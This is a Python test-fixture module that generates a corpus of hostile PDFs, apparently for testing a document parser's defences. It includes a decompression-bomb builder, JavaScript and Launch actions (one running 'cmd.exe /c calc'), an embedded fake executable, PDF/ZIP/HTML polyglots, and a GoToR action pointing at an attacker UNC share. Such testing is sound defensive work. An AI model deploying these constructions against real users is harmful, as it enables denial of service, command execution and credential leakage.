"""A tiny PDF writer for the hostile-PDF corpus, every file generated here byte for byte:
``build`` numbers the objects from 1 and writes a cross-reference table with the right offsets
(or deliberately wrong ones); each corpus function returns one file."""

from __future__ import annotations

import io
import zlib
from collections.abc import Sequence

HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"


def stream(dictionary: bytes, data: bytes, *, flate: bool = False) -> bytes:
    if flate:
        data = zlib.compress(data)
        dictionary += b" /Filter /FlateDecode"
    return (b"<< " + dictionary + b" /Length " + str(len(data)).encode() + b" >>\nstream\n"
            + data + b"\nendstream")


def build(objects: Sequence[bytes], *, root: int = 1, trailer_extra: bytes = b"",
          header: bytes = HEADER, xref_shift: int = 0, startxref_shift: int = 0) -> bytes:
    out = io.BytesIO()
    out.write(header)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref_at = out.tell()
    out.write(b"xref\n0 %d\n" % (len(objects) + 1))
    out.write(b"0000000000 65535 f \n")
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % (offset + xref_shift))
    out.write(b"trailer\n<< /Size %d /Root %d 0 R " % (len(objects) + 1, root)
              + trailer_extra + b" >>\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % (xref_at + startxref_shift))
    return out.getvalue()


def page_objects(text: str = "Hello, assistance", *, page_extra: bytes = b"",
                 catalog_extra: bytes = b"") -> list[bytes]:
    """Objects 1-5 of a one-page document with text: catalog, pages, page, content, font."""
    content = b"BT /F1 24 Tf 72 720 Td (" + text.encode("latin-1") + b") Tj ET"
    return [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
        stream(b"", content, flate=True),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def valid_pdf(text: str = "Hello, assistance") -> bytes:
    return build(page_objects(text))


def multi_page_pdf(pages: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    content_start = 4 + pages
    for i in range(pages):
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R "
                       b"/Resources << /Font << /F1 3 0 R >> >> >>" % (content_start + i))
    for i in range(pages):
        text = b"BT /F1 12 Tf 72 720 Td (Page %d of the letter of request) Tj ET" % (i + 1)
        objects.append(stream(b"", text * 20, flate=True))
    return build(objects)


def truncated_pdf() -> bytes:
    data = valid_pdf()
    return data[: len(data) * 2 // 3]


def wrong_xref_pdf() -> bytes:
    """Every cross-reference offset is 7 bytes off (points into the middle of a line)."""
    return build(page_objects(), xref_shift=7)


def wrong_startxref_pdf() -> bytes:
    return build(page_objects(), startxref_shift=-40)


def recursive_kids_pdf() -> bytes:
    """The page tree's root lists itself among its kids."""
    objects = page_objects()
    objects[1] = b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"
    return build(objects)


def huge_page_tree_pdf(declared: int = 100_000) -> bytes:
    objects = page_objects()
    objects[1] = b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % declared
    return build(objects)


def wide_page_tree_pdf(pages: int = 5000) -> bytes:
    """A page tree that declares one page but whose kids list the same page thousands of times."""
    objects = page_objects()
    objects[1] = b"<< /Type /Pages /Kids [" + b"3 0 R " * pages + b"] /Count 1 >>"
    return build(objects)


def bomb_stream_data(megabytes: int) -> bytes:
    """A zlib stream that inflates to ``megabytes`` MiB of zeros, built without compressing
    them: one fully flushed deflate block for 1 MiB, repeated, then the checksum (the Adler-32
    of n zero bytes is ``(n % 65521) << 16 | 1``)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(b"\0" * (1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    final = compressor.flush(zlib.Z_FINISH)
    size = megabytes << 20
    adler = ((size % 65521) << 16) | 1
    return b"\x78\xda" + block * megabytes + final + adler.to_bytes(4, "big")


def decompression_bomb_pdf(gigabytes: int = 2) -> bytes:
    """A page content stream of a few MB that inflates to GBs of zeros."""
    data = bomb_stream_data(gigabytes * 1024)
    objects = page_objects()
    objects[3] = (b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(data) + data
                  + b"\nendstream")
    return build(objects)


def javascript_open_action_pdf() -> bytes:
    objects = page_objects(catalog_extra=b"/OpenAction 6 0 R ")
    objects.append(b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\);) >>")
    return build(objects)


def javascript_names_pdf() -> bytes:
    objects = page_objects(catalog_extra=b"/Names << /JavaScript 6 0 R >> ")
    objects.append(b"<< /Names [(init) 7 0 R] >>")
    objects.append(b"<< /S /JavaScript /JS (this.print\\(\\);) >>")
    return build(objects)


def javascript_annotation_pdf() -> bytes:
    """A link annotation whose additional action (/AA, mouse up) runs JavaScript, with the
    action's names written with #-escapes."""
    objects = page_objects(page_extra=b"/Annots [6 0 R] ")
    objects.append(b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] "
                   b"/AA << /U << /S /J#61vaScript /JS 7 0 R >> >> >>")
    objects.append(stream(b"", b"app.launchURL('https://example.invalid/');", flate=True))
    return build(objects)


def javascript_form_field_pdf() -> bytes:
    objects = page_objects(catalog_extra=b"/AcroForm << /Fields [6 0 R] >> ",
                           page_extra=b"/Annots [6 0 R] ")
    objects.append(b"<< /FT /Tx /T (name) /Subtype /Widget /Rect [0 0 100 20] /P 3 0 R "
                   b"/AA << /K << /S /JavaScript /JS (event.rc = true;) >> >> >>")
    return build(objects)


def launch_action_pdf() -> bytes:
    objects = page_objects(catalog_extra=b"/OpenAction 6 0 R ")
    objects.append(b"<< /Type /Action /S /Launch /F (cmd.exe) "
                   b"/Win << /F (cmd.exe) /P (/c calc) >> >>")
    return build(objects)


def embedded_file_pdf() -> bytes:
    objects = page_objects(catalog_extra=b"/Names << /EmbeddedFiles 6 0 R >> ")
    objects.append(b"<< /Names [(payload.exe) 7 0 R] >>")
    objects.append(b"<< /Type /Filespec /F (payload.exe) /EF << /F 8 0 R >> >>")
    objects.append(stream(b"/Type /EmbeddedFile", b"MZ not really a program"))
    return build(objects)


def file_attachment_annotation_pdf() -> bytes:
    objects = page_objects(page_extra=b"/Annots [6 0 R] ")
    objects.append(b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 7 0 R >>")
    objects.append(b"<< /Type /Filespec /F (notes.txt) >>")
    return build(objects)


def encrypted_pdf(user_password: str = "", algorithm: str = "AES-256") -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(valid_pdf())))
    writer.encrypt(user_password=user_password, owner_password="owner-secret",
                   algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _zip_bytes() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.html", "<script>alert(1)</script>")
    return out.getvalue()


def pdf_zip_polyglot() -> bytes:
    """A valid PDF with a ZIP archive appended (readable by both PDF and ZIP tools)."""
    return valid_pdf() + _zip_bytes()


def zip_inside_pdf_polyglot() -> bytes:
    """A ZIP whose end record's comment swallows the PDF's tail: the ZIP is inside a stream."""
    archive = _zip_bytes()
    objects = page_objects()
    objects.append(stream(b"", archive))
    data = build(objects)
    # Rewrite the end-of-central-directory comment length so that it covers the PDF's tail.
    eocd = data.rfind(b"PK\x05\x06")
    tail = len(data) - (eocd + 22)
    patched = data[: eocd + 20] + tail.to_bytes(2, "little") + data[eocd + 22:]
    return patched


def html_before_pdf() -> bytes:
    return b"<html><body><script>alert(1)</script></body></html>\n" + valid_pdf()


def html_in_header_comment_pdf() -> bytes:
    return valid_pdf().replace(b"%\xe2\xe3\xcf\xd3\n",
                               b"%<html><script>alert(1)</script></html>\n", 1)


def png_named_pdf() -> bytes:
    return (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02"
            b"\x00\x00\x00\x90wS\xde\x00\x00\x00\x0cIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00"
            b"\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")


def text_named_pdf() -> bytes:
    return b"Letter of request\nThis is plain text with a .pdf name.\n"


def zero_pages_pdf() -> bytes:
    objects = page_objects()
    objects[1] = b"<< /Type /Pages /Kids [] /Count 0 >>"
    return build(objects)


def deep_nesting_pdf(depth: int = 100_000) -> bytes:
    objects = page_objects()
    objects.append(b"[" * depth + b"]" * depth)
    return build(objects)


def huge_image_pdf() -> bytes:
    """An image that declares 100,000 x 100,000 pixels (a viewer would allocate 30 GB)."""
    objects = page_objects(page_extra=b"")
    objects[2] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
                  b"/Resources << /Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >> >> >>")
    objects.append(stream(b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 "
                          b"/ColorSpace /DeviceRGB /BitsPerComponent 8", b"\0" * 64, flate=True))
    return build(objects)


def slow_recovery_pdf(megabytes: int = 5) -> bytes:
    """A FlateDecode stream of invalid data: pypdf's recovery then feeds the inflater one byte
    at a time over megabytes (seconds of CPU for a small file)."""
    import random

    noise = random.Random(7).randbytes(megabytes << 20)
    data = b"\x78\x9c" + b"\xff" * 16 + noise
    objects = page_objects()
    objects[3] = (b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(data) + data
                  + b"\nendstream")
    return build(objects)


def wrong_xref_broken_object_pdf() -> bytes:
    """Wrong offsets, and the page's content stream is cut short (no endstream): even the
    repaired document does not parse fully."""
    objects = page_objects()
    objects[3] = b"<< /Length 5000 >>\nstream\nBT /F1 24 Tf 72 720 Td (Hello) Tj"
    return build(objects, xref_shift=7)


def javascript_unreferenced_repaired_pdf() -> bytes:
    """A broken xref, and a JavaScript action written as an object the xref does not list,
    with its names escaped: the raw scan of a repaired file finds it."""
    data = build(page_objects(), startxref_shift=-40)
    hidden = b"99 0 obj\n<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>\nendobj\n"
    return data.replace(b"xref\n", hidden + b"xref\n", 1)


def remote_goto_pdf() -> bytes:
    objects = page_objects(catalog_extra=b"/OpenAction 6 0 R ")
    objects.append(b"<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>")
    return build(objects)


def xfa_form_pdf() -> bytes:
    objects = page_objects(catalog_extra=b"/AcroForm << /Fields [] /XFA 6 0 R >> ")
    objects.append(stream(b"", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>"))
    return build(objects)


def looping_outline_pdf() -> bytes:
    objects = page_objects(catalog_extra=b"/Outlines 6 0 R ")
    objects.append(b"<< /Type /Outlines /First 7 0 R /Last 8 0 R /Count 2 >>")
    objects.append(b"<< /Title (One) /Parent 6 0 R /Next 8 0 R /Dest [3 0 R /Fit] >>")
    objects.append(b"<< /Title (Two) /Parent 6 0 R /Next 7 0 R /Dest [3 0 R /Fit] >>")
    return build(objects)


def padded_pdf(size: int) -> bytes:
    """A valid one-page PDF of about ``size`` bytes (an uncompressed stream of comments)."""
    base = valid_pdf()
    filler = max(0, size - len(base) - 120)
    line = b"% padding to reach the wanted size of the test file ...........\n"
    padding = (line * (filler // len(line) + 1))[:filler]
    objects = page_objects()
    objects.append(stream(b"", padding))
    return build(objects)
